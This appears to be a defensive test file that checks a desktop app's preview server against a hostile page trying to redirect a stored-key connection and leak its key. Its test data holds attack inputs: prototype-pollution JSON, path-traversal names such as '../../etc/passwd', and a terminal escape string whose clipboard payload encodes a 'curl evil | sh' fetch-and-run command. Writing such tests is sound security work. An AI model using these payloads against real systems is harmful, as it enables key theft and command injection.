/**
 * A hostile page against the built preview in its first milliseconds: the preview listens
 * before its core has loaded (app.info and settings.get come from a cheap early part, every
 * other call waits for the rest), so a page that calls at the moment the address is printed
 * must get exactly what it would get later — no stored key moved to where the user did not
 * send it, nothing loosened, no key in an answer, the log or any file.
 *
 * The user connected to their Gaia (the simulator) in an earlier run; its key is in the
 * real keychain (run under /work/wt/with-keyring.sh). The preview is then started again on
 * the same data, and the page fires, before the core is up, moves of that connection to an
 * attacker on loopback (URL, proxy, CA, pin, TLS off) racing lists, asks and key-service
 * calls that would use the stored key, plus prototype-polluting and oversized requests.
 */
import { readFileSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CALL_PATH, TOKEN_HEADER } from '../../main/preview/server';
import { startSimulator, type Simulator } from '../gaia-sim';
import { startAttacker, type Attacker } from '../support/attacker';
import { startPreview, type PreviewProcess } from '../support/preview-process';
import { filesIn } from '../support/files';
import { containsSecret } from '../support/gaia';
import type { Answer } from '../support/dispatch';


let sim: Simulator;
let attacker: Attacker;
let dataDir = '';
let keychainService = '';
let victim = '';
const answers: string[] = [];

function caller(p: PreviewProcess) {
  return async (channel: string, request: unknown, raw?: string): Promise<Answer> => {
    const r = await fetch(`${p.origin}${CALL_PATH}`, {
      method: 'POST',
      headers: { origin: p.origin, [TOKEN_HEADER]: p.token },
      body: raw ?? JSON.stringify({ channel, request }),
    });
    const text = await r.text();
    answers.push(text);
    return r.status === 200 ? (JSON.parse(text) as Answer) : { ok: false, error: { kind: `http-${r.status}`, message: text } };
  };
}


beforeAll(async () => {
  sim = await startSimulator();
  attacker = await startAttacker();
  // The user's earlier run: one connection, its key in the keychain.
  const first = await startPreview();
  dataDir = first.dataDir;
  keychainService = first.keychainService;
  try {
    const call = caller(first);
    const connected = await call('gaia:profiles.connect', { name: 'Victim', baseUrl: sim.baseUrl, apiKey: sim.demoKey, caPem: sim.caPem });
    expect(connected.ok, JSON.stringify(connected.error)).toBe(true);
    victim = connected.value.profile.id;
    expect(connected.value.profile.key.storage).toBe('keychain');
  } finally {
    await first.stop();
  }
}, 60_000);

afterAll(async () => {
  await attacker?.stop();
  await sim?.stop();
  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
});

describe('a hostile page calling before the preview core has loaded', () => {
  it('moves nothing a stored key would follow, and the key shows nowhere', async () => {
    const preview = await startPreview({ dataDir, keychainService });
    const call = caller(preview);
    const rid = (n: number) => `early-attack-${String(n).padStart(4, '0')}`;
    try {
      const moves: Array<Record<string, unknown>> = [
        { baseUrl: attacker.httpBaseUrl },
        { baseUrl: attacker.httpsBaseUrl, caPem: attacker.caPem },
        { baseUrl: attacker.httpsBaseUrl, trustedFingerprint: attacker.leafFingerprint },
        { proxyUrl: attacker.proxyUrl },
        { proxyUrl: attacker.proxyUrl, verifyTls: false },
        { verifyTls: false },
        { caPem: attacker.caPem },
        { trustedFingerprint: attacker.leafFingerprint },
        { name: 'Victim', baseUrl: attacker.httpBaseUrl, caPem: null, proxyUrl: null },
      ];
      const polluted = '{"channel":"gaia:settings.update","request":{"__proto__":{"verifyTls":false,"baseUrl":"' + attacker.httpBaseUrl + '"}}}';
      const early = await Promise.all([
        call('gaia:app.info', {}),
        call('gaia:settings.get', {}),
        call('', null, polluted),
        call('', null, '{"channel":"__proto__","request":{}}'),
        call('', null, '{"channel":"constructor","request":{}}'),
        call('', null, '{"channel":"gaia:profiles.update","request":{"id":"' + victim + '","constructor":{"prototype":{"baseUrl":"' + attacker.httpBaseUrl + '"}}}}'),
        ...moves.map((m) => call('gaia:profiles.update', { id: victim, ...m })),
        call('gaia:datasets.list', { requestId: rid(1), refresh: true }),
        call('gaia:ask.start', { requestId: rid(2), conversationId: null, datasetNames: ['Travel & Expenses', '../../etc/passwd', '%2e%2e/x'], question: 'hotel limit?' }),
        call('gaia:ask.exhaustive', { datasetName: '../../../api_keys', question: 'x' }),
        call('gaia:keys.list', {}),
        call('gaia:llms.list', {}),
        call('gaia:profiles.checkUrl', { baseUrl: attacker.httpBaseUrl }),
        call('gaia:app.openExternal', { url: `${attacker.httpBaseUrl}/phish` }),
        call('gaia:app.openFolder', { folder: '../../' }),
        call('gaia:app.diagnostics', {}),
        call('gaia:profiles.activate', { id: victim }),
        call('gaia:settings.update', { keepHistory: true }),
        ...moves.map((m) => call('gaia:profiles.update', { id: victim, ...m })),
        call('gaia:datasets.list', { requestId: rid(3), refresh: true }),
      ]);
      expect(early[0]).toMatchObject({ ok: true, value: { shell: 'preview' } });
      expect(early[1].ok).toBe(true);

      // After the start: the same moves racing the calls that use the key.
      sim.faults.set({ latencyMs: 300 });
      const raced = await Promise.all([
        call('gaia:datasets.list', { requestId: rid(4), refresh: true }),
        call('gaia:ask.start', { requestId: rid(5), conversationId: null, datasetNames: ['Travel & Expenses'], question: 'hotel limit?' }),
        call('gaia:keys.list', {}),
        new Promise((r) => setTimeout(r, 100)).then(() => Promise.all(moves.map((m) => call('gaia:profiles.update', { id: victim, ...m })))),
      ]);
      sim.faults.set({ latencyMs: 0 });
      await new Promise((r) => setTimeout(r, 1000));
      expect(raced.length).toBe(4);

      // Every move needed the key typed again: the connection is where the user left it.
      const list = await call('gaia:profiles.list', {});
      const profile = list.value.profiles.find((p: { id: string }) => p.id === victim);
      expect(profile).toMatchObject({ baseUrl: sim.baseUrl, verifyTls: true, proxyUrl: null, trustedFingerprint: null });
      // Nothing reached the attacker with a key of the victim's (not even a request at all for the stored key).
      const seen = attacker.seen();
      // containsSecret: the key or any 8-character piece of it (a key cut, encoded in part or wrapped still shows).
      for (const k of sim.keys()) expect(containsSecret(seen, k.apiKey), 'the attacker saw a piece of a key').toBe(false);
      // The page's answers, the log and every file in the data folder hold no key.
      await preview.stop();
      const files = filesIn(dataDir).map((f) => [f, readFileSync(f, 'utf8')] as const);
      expect(files.some(([f]) => f.endsWith('main.log'))).toBe(true);
      for (const k of sim.keys()) {
        for (const a of answers) expect(containsSecret(a, k.apiKey), 'an answer holds a piece of a key').toBe(false);
        for (const [f, text] of files) expect(containsSecret(text, k.apiKey), `${f} holds a piece of a key`).toBe(false);
        expect(containsSecret(preview.output(), k.apiKey), 'the preview printed a piece of a key').toBe(false);
      }
    } finally {
      await preview.stop();
    }
  }, 90_000);
});

describe('a hostile page moving the connection, with its own key, while calls that use the stored key are in flight', () => {
  it('in-flight lists, asks, retries and key-service calls finish with the victim or fail; none follows the move with the stored key', async () => {
    const preview = await startPreview({ dataDir, keychainService });
    const call = caller(preview);
    const rid = (n: number) => `moved-attack-${String(n).padStart(4, '0')}`;
    try {
      attacker.requests.length = 0;
      // Slow answers and server errors to retry: the move lands between a call's attempts.
      sim.faults.set({ latencyMs: 250, serverError: { count: 6, status: 503 } });
      const inFlight = Promise.all([
        call('gaia:datasets.list', { requestId: rid(1), refresh: true }),
        call('gaia:ask.start', { requestId: rid(2), conversationId: null, datasetNames: ['Travel & Expenses'], question: 'hotel limit?' }),
        call('gaia:ask.exhaustive', { datasetName: 'Travel & Expenses', question: 'hotel limit?' }),
        call('gaia:keys.list', {}),
        call('gaia:llms.list', {}),
        call('gaia:datasets.stats', {}),
        call('gaia:keys.create', { permissions: 'read' }),
        call('gaia:keys.rotate', { requestId: rid(3), profileId: victim }),
      ]);
      await new Promise((r) => setTimeout(r, 120));
      const moved = await call('gaia:profiles.update', { id: victim, baseUrl: attacker.httpBaseUrl, caPem: null, apiKey: 'attacker-typed-key-0123456789' });
      expect(moved.ok, JSON.stringify(moved.error)).toBe(true);
      const results = await inFlight;
      sim.faults.set({ latencyMs: 0 });
      // Whatever a created key became, it must not be bound to where the profile moved.
      for (const r of results) if (r.ok && r.value?.handle) await call('gaia:keys.useForProfile', { handle: r.value.handle, profileId: victim });
      await new Promise((r) => setTimeout(r, 1500));
      expect(attacker.requests.length).toBeGreaterThan(0);
      const seen = attacker.seen();
      // containsSecret: the key or any 8-character piece of it (a key cut, encoded in part or wrapped still shows).
      for (const k of sim.keys()) expect(containsSecret(seen, k.apiKey), 'the attacker saw a piece of a key').toBe(false);
    } finally {
      await preview.stop();
    }
  }, 90_000);
});

describe('what the page can make the preview print in its terminal', () => {
  it('a connection name cannot carry terminal control sequences (clipboard writes, hidden text) into the confirmation line', async () => {
    const preview = await startPreview();
    const call = caller(preview);
    try {
      const connected = await call('gaia:profiles.connect', { name: 'Work', baseUrl: sim.baseUrl, apiKey: sim.demoKey, caPem: sim.caPem });
      expect(connected.ok, JSON.stringify(connected.error)).toBe(true);
      const id = connected.value.profile.id;
      // A rename needs no key: OSC 52 (the terminal's clipboard), a line rewritten, the rest concealed.
      const hostile = 'Work\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\r\u001b[2K\nAll clear\u001b[8m\u202e\u009b';
      expect((await call('gaia:profiles.update', { id, name: hostile })).ok).toBe(true);
      // The user types the key again to loosen checks: the preview prints the change in its terminal.
      const loosened = await call('gaia:profiles.update', { id, verifyTls: false, apiKey: sim.demoKey });
      expect(loosened.ok, JSON.stringify(loosened.error)).toBe(true);
      await expect.poll(() => preview.output()).toContain('Trust change confirmed');
      const line = preview.output().split('\n').find((l) => l.includes('Trust change confirmed'))!;
      // eslint-disable-next-line no-control-regex -- what must not reach the terminal
      expect(preview.output()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/);
      // The name is still recognisable, on the same line as what it confirms.
      expect(line).toMatch(/Work.*All clear.*will turn certificate checks off/);
    } finally {
      await preview.stop();
      rmSync(preview.dataDir, { recursive: true, force: true });
    }
  }, 60_000);
});
